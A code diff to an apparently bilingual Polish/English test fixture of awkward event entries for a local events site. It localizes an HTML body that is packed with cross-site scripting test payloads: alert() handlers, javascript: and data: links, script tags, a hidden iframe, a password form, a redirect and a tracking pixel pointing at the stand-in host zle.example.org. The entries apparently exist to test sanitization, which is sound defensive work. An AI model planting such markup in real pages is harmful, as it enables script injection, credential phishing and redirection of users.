@@ -3,17 +3,19 @@ import { type Cost, cost } from './costs.ts';
 import { at, inDays, week } from './day.ts';
 import type { EventEntry } from './entry.ts';
 
-const scripts = `
-  <p onclick="alert(1)">Hasło „123456” ma w Grążelinie czterysta osób.</p>
+const scripts = ({ password, click, here, there, film, send, windows }: Record<ScriptWord, string>) => `
+  <p onclick="alert(1)">${password}</p>
   <script>document.title = 'przejęte';</script>
-  <p><a href="javascript:alert(2)">Kliknij, aby wygrać rower</a>, <a href=" jAvAsCrIpT:alert(3)">albo tutaj</a>, <a href="data:text/html,<script>alert(4)</script>">albo tu</a>.</p>
+  <p><a href="javascript:alert(2)">${click}</a>, <a href=" jAvAsCrIpT:alert(3)">${here}</a>, <a href="data:text/html,<script>alert(4)</script>">${there}</a>.</p>
   <p><img src="x" onerror="alert(5)" alt=""><svg onload="alert(6)"><script>alert(7)</script></svg></p>
-  <iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" title="Film instruktażowy" width="560" height="315" allowfullscreen></iframe>
+  <iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" title="${film}" width="560" height="315" allowfullscreen></iframe>
   <iframe src="https://zle.example.org/formularz" width="1" height="1"></iframe>
   <style>body { display: none }</style>
-  <form action="https://zle.example.org/"><input name="haslo" type="password"><button>Wyślij</button></form>
-  <p style="position:fixed;inset:0;background:url(https://zle.example.org/piksel.gif)">Uwaga na okienka.</p>
+  <form action="https://zle.example.org/"><input name="haslo" type="password"><button>${send}</button></form>
+  <p style="position:fixed;inset:0;background:url(https://zle.example.org/piksel.gif)">${windows}</p>
   <object data="https://zle.example.org/a.swf"></object><embed src="https://zle.example.org/b.swf"><base href="https://zle.example.org/"><meta http-equiv="refresh" content="0;url=https://zle.example.org/">`;
+
+type ScriptWord = 'password' | 'click' | 'here' | 'there' | 'film' | 'send' | 'windows';
 
 const ordinance = {
   pl: 'Spotkanie informacyjne w sprawie uchwały o zmianie uchwały zmieniającej uchwałę w sprawie zasad i trybu korzystania z miejskich gminnych obiektów i urządzeń użyteczności publicznej położonych na terenie Wyspy Młyńskiej, Bulwaru Flisaków oraz przyległych do nich skwerów, alejek, pomostów, schodów terenowych i ławek',
@@ -139,8 +141,30 @@ export const awkwardTexts: readonly EventEntry[] = [
     image: 'robots',
     cost: cost('<script>alert("cost")</script>0zł', '0'),
     website: 'javascript:alert(document.domain)',
-    pl: { title: 'Bezpieczeństwo w sieci dla każdego', body: scripts },
-    en: { title: 'Web Security for Everyone', body: scripts },
+    pl: {
+      title: 'Bezpieczeństwo w sieci dla każdego',
+      body: scripts({
+        password: 'Hasło „123456” ma w Grążelinie czterysta osób.',
+        click: 'Kliknij, aby wygrać rower',
+        here: 'albo tutaj',
+        there: 'albo tu',
+        film: 'Film instruktażowy',
+        send: 'Wyślij',
+        windows: 'Uwaga na okienka.',
+      }),
+    },
+    en: {
+      title: 'Web Security for Everyone',
+      body: scripts({
+        password: 'Four hundred people in Grążelin have the password “123456”.',
+        click: 'Click to win a bicycle',
+        here: 'or here',
+        there: 'or there',
+        film: 'Instructional film',
+        send: 'Send',
+        windows: 'Beware of pop-ups.',
+      }),
+    },
   },
   {
     key: 'cycle-map',
@@ -394,8 +418,8 @@ function chronicle(language: 'pl' | 'en'): string {
   const entry =
     language === 'pl'
       ? (year: number) =>
-          `## Rok ${year}\n\nWody było ${year % 7} łokci ponad miarę, a mimo to jarmark się odbył. Rajcy uchwalili, że most należy naprawić, i odłożyli naprawę do roku następnego. Cena żyta: ${(year % 13) + 4} groszy. Młynarz skarżył się na bobry, bobry nie zeznawały.`
+          `## Rok ${year}\n\nWody było ${(year % 7) + 5} łokci ponad miarę, a mimo to jarmark się odbył. Rajcy uchwalili, że most należy naprawić, i odłożyli naprawę do roku następnego. Cena żyta: ${(year % 13) + 5} groszy. Młynarz skarżył się na bobry, bobry nie zeznawały.`
       : (year: number) =>
-          `## The year ${year}\n\nThe water stood ${year % 7} ells above the mark, and the fair was held all the same. The council resolved that the bridge be mended and put the mending off to the year after. Price of rye: ${(year % 13) + 4} groats. The miller complained of beavers; the beavers did not testify.`;
+          `## The year ${year}\n\nThe water stood ${(year % 7) + 5} ells above the mark, and the fair was held all the same. The council resolved that the bridge be mended and put the mending off to the year after. Price of rye: ${(year % 13) + 5} groats. The miller complained of beavers; the beavers did not testify.`;
   return Array.from({ length: 106 }, (_, place) => entry(1701 + place)).join('\n\n');
 }
